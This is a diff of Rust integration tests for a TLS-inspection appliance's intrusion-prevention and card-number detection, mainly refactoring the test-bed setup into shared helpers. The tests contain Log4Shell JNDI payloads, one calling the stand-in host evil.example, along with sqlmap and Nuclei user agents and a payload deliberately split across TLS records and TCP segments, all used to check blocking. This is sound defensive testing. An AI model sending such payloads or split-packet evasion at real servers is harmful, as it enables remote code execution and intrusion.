@@ -12,6 +12,14 @@ use tls_inspect_tests::{check, SERVER_IP};
 const LOG4SHELL: &str = "/?q=$%7Bjndi:ldap://evil.example/a%7D";
 const LOG4SHELL_RAW: &str = "/?q=${jndi:ldap://evil.example/a}";
 
+/// The TLS bed with nginx and `[ips] enabled = true` plus `settings`; the appliance CA's path.
+fn ips_bed(settings: &str) -> Result<(Bed, String)> {
+    let mut b = Bed::new(&format!("[ips]\nenabled = true\n{settings}"))?;
+    b.nginx()?;
+    let ca = b.ca.to_str().unwrap().to_string();
+    Ok((b, ca))
+}
+
 fn alerts(b: &Bed) -> Vec<serde_json::Value> {
     b.eve().into_iter().filter(|r| r["event_type"] == "alert").collect()
 }
@@ -46,9 +54,7 @@ fn block_mode_answers_with_a_block_page_and_the_server_never_sees_it() -> Result
 
 #[test]
 fn monitor_mode_lets_it_through_with_an_alert() -> Result<()> {
-    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"monitor\"")?;
-    b.nginx()?;
-    let ca = b.ca.to_str().unwrap().to_string();
+    let (b, ca) = ips_bed("mode = \"monitor\"")?;
     let o = b.curl(&["--http1.1", "--cacert", &ca, &format!("https://server.test{LOG4SHELL}")]);
     let out = String::from_utf8_lossy(&o.stdout).into_owned();
     assert!(out.contains("hello from nginx"), "{out}");
@@ -59,16 +65,19 @@ fn monitor_mode_lets_it_through_with_an_alert() -> Result<()> {
     Ok(())
 }
 
-#[test]
-fn a_pattern_split_across_tls_records_or_tcp_segments_is_caught() -> Result<()> {
-    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"block\"")?;
-    b.nginx()?;
+/// Runs Python in the client namespace: a TCP socket `raw` (set up by `before_connect`) to the
+/// server's 443, TLS over it as `s` (trusting the appliance's CA), `send`, then everything the
+/// appliance answers until it closes, printed.
+fn python_tls_exchange(b: &Bed, before_connect: &str, send: &str) -> Result<String> {
     let py = format!(
         "import socket, ssl\n\
+         raw = socket.socket()\n\
+         raw.settimeout(10)\n\
+         {before_connect}\
+         raw.connect(('{SERVER_IP}', 443))\n\
          ctx = ssl.create_default_context(cafile='{}')\n\
-         s = ctx.wrap_socket(socket.create_connection(('{SERVER_IP}', 443), timeout=10), server_hostname='server.test')\n\
-         s.sendall(b'GET /?q=${{jn')\n\
-         s.sendall(b'di:ldap://x}} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n\
+         s = ctx.wrap_socket(raw, server_hostname='server.test')\n\
+         {send}\
          data = b''\n\
          while True:\n\
          \x20   try:\n\
@@ -80,32 +89,29 @@ fn a_pattern_split_across_tls_records_or_tcp_segments_is_caught() -> Result<()> 
          print(data.decode(errors='replace'))\n",
         b.ca.display()
     );
-    let out = check(b.t.client.cmd("python3").args(["-c", &py]))?;
+    check(b.t.client.cmd("python3").args(["-c", &py]))
+}
+
+#[test]
+fn a_pattern_split_across_tls_records_or_tcp_segments_is_caught() -> Result<()> {
+    let (b, _) = ips_bed("mode = \"block\"")?;
+    // Two TLS records, the pattern across them.
+    let out = python_tls_exchange(
+        &b,
+        "",
+        "s.sendall(b'GET /?q=${jn')\n\
+         s.sendall(b'di:ldap://x} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n",
+    )?;
     assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");
 
     // One TLS record cut into TCP segments of 88 bytes (TCP_MAXSEG), the pattern past the
     // first segment: the userspace stack reassembles it before TLS and the IPS see it.
-    let py = format!(
-        "import socket, ssl\n\
-         raw = socket.socket()\n\
-         raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)\n\
-         raw.settimeout(10)\n\
-         raw.connect(('{SERVER_IP}', 443))\n\
-         ctx = ssl.create_default_context(cafile='{}')\n\
-         s = ctx.wrap_socket(raw, server_hostname='server.test')\n\
-         s.sendall(b'GET /' + b'a' * 150 + b'?q=${{jndi:ldap://x}} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n\
-         data = b''\n\
-         while True:\n\
-         \x20   try:\n\
-         \x20       chunk = s.recv(4096)\n\
-         \x20   except (ssl.SSLError, ConnectionResetError):\n\
-         \x20       break\n\
-         \x20   if not chunk: break\n\
-         \x20   data += chunk\n\
-         print(s.getsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG), data.decode(errors='replace'))\n",
-        b.ca.display()
-    );
-    let out = check(b.t.client.cmd("python3").args(["-c", &py]))?;
+    let out = python_tls_exchange(
+        &b,
+        "raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)\n",
+        "s.sendall(b'GET /' + b'a' * 150 + b'?q=${jndi:ldap://x} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n\
+         print(s.getsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG))\n",
+    )?;
     let mss: u32 = out.split_whitespace().next().and_then(|m| m.parse().ok()).unwrap_or(0);
     assert!(mss > 0 && mss <= 88, "segments of at most 88 bytes: {out}");
     assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");
@@ -117,9 +123,7 @@ fn each_level_blocks_what_its_confidence_allows() -> Result<()> {
     // (level, blocks high, blocks medium, blocks low): sid 9000001 is high confidence,
     // 9000020 (sqlmap) medium, 9000022 (Nuclei) low.
     for (level, expect) in [("loose", [true, false, false]), ("medium", [true, true, false]), ("strict", [true, true, true])] {
-        let mut b = Bed::new(&format!("[ips]\nenabled = true\nmode = \"block\"\nlevel = \"{level}\""))?;
-        b.nginx()?;
-        let ca = b.ca.to_str().unwrap().to_string();
+        let (b, ca) = ips_bed(&format!("mode = \"block\"\nlevel = \"{level}\""))?;
         let requests: [(&str, &str); 3] = [(LOG4SHELL_RAW, "Mozilla/5.0"), ("/", "sqlmap/1.7.2#stable"), ("/", "Nuclei - Open-source project")];
         for ((path, ua), blocks) in requests.iter().zip(expect) {
             let o = b.curl(&["--http1.1", "-g", "-A", ua, "--cacert", &ca, &format!("https://server.test{path}")]);
@@ -134,9 +138,7 @@ fn each_level_blocks_what_its_confidence_allows() -> Result<()> {
 
 #[test]
 fn http2_requests_are_inspected_too() -> Result<()> {
-    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"block\"")?;
-    b.nginx()?;
-    let ca = b.ca.to_str().unwrap().to_string();
+    let (b, ca) = ips_bed("mode = \"block\"")?;
     // A clean HTTP/2 request passes ...
     let o = b.curl(&["--http2", "--cacert", &ca, "https://server.test/"]);
     let out = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
@@ -157,9 +159,7 @@ fn http2_requests_are_inspected_too() -> Result<()> {
 
 #[test]
 fn a_card_number_in_a_post_body_raises_a_dlp_event_and_near_misses_do_not() -> Result<()> {
-    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"monitor\"")?;
-    b.nginx()?;
-    let ca = b.ca.to_str().unwrap().to_string();
+    let (b, ca) = ips_bed("mode = \"monitor\"")?;
     // Luhn-valid: reported (redacted); a 16-digit number failing Luhn: nothing.
     b.curl(&["--http1.1", "--cacert", &ca, "--data", "card=4111 1111 1111 1111&name=x", "https://server.test/"]);
     b.curl(&["--http1.1", "--cacert", &ca, "--data", "order=4111111111111112", "https://server.test/"]);
@@ -176,9 +176,7 @@ fn a_card_number_in_a_post_body_raises_a_dlp_event_and_near_misses_do_not() -> R
 
 #[test]
 fn whitelisted_sources_skip_the_ips() -> Result<()> {
-    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"block\"\nwhitelist = [\"198.18.0.1/32\"]")?;
-    b.nginx()?;
-    let ca = b.ca.to_str().unwrap().to_string();
+    let (b, ca) = ips_bed("mode = \"block\"\nwhitelist = [\"198.18.0.1/32\"]")?;
     let o = b.curl(&["--http1.1", "-g", "--cacert", &ca, &format!("https://server.test{LOG4SHELL_RAW}")]);
     assert!(String::from_utf8_lossy(&o.stdout).contains("hello from nginx"), "{}", String::from_utf8_lossy(&o.stderr));
     b.wait_records(1)?;
@@ -190,9 +188,7 @@ fn whitelisted_sources_skip_the_ips() -> Result<()> {
 fn rules_are_changed_and_reloaded_under_traffic() -> Result<()> {
     let local = std::env::temp_dir().join(format!("tls-inspect-local-{}.rules", std::process::id()));
     std::fs::write(&local, "")?;
-    let mut b = Bed::new(&format!("[ips]\nenabled = true\nmode = \"block\"\nrules = [\"{}\"]", local.display()))?;
-    b.nginx()?;
-    let ca = b.ca.to_str().unwrap().to_string();
+    let (b, ca) = ips_bed(&format!("mode = \"block\"\nrules = [\"{}\"]", local.display()))?;
     let get = |b: &Bed, path: &str| {
         let o = b.curl(&["--http1.1", "-g", "--cacert", &ca, &format!("https://server.test{path}")]);
         String::from_utf8_lossy(&o.stdout).into_owned()
@@ -265,9 +261,7 @@ const BUNDLED: [(u32, Sample, Sample); 17] = {
 
 #[test]
 fn every_bundled_rule_fires_through_the_appliance_on_tls12_tls13_h1_h2() -> Result<()> {
-    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"monitor\"\nlevel = \"strict\"")?;
-    b.nginx()?;
-    let ca = b.ca.to_str().unwrap().to_string();
+    let (b, ca) = ips_bed("mode = \"monitor\"\nlevel = \"strict\"")?;
     let combos: [(&str, &str, &str, &str, &str); 4] = [
         ("--tlsv1.2", "--tls-max", "1.2", "--http1.1", "TLSv1.2/http/1.1"),
         ("--tlsv1.2", "--tls-max", "1.2", "--http2", "TLSv1.2/h2"),
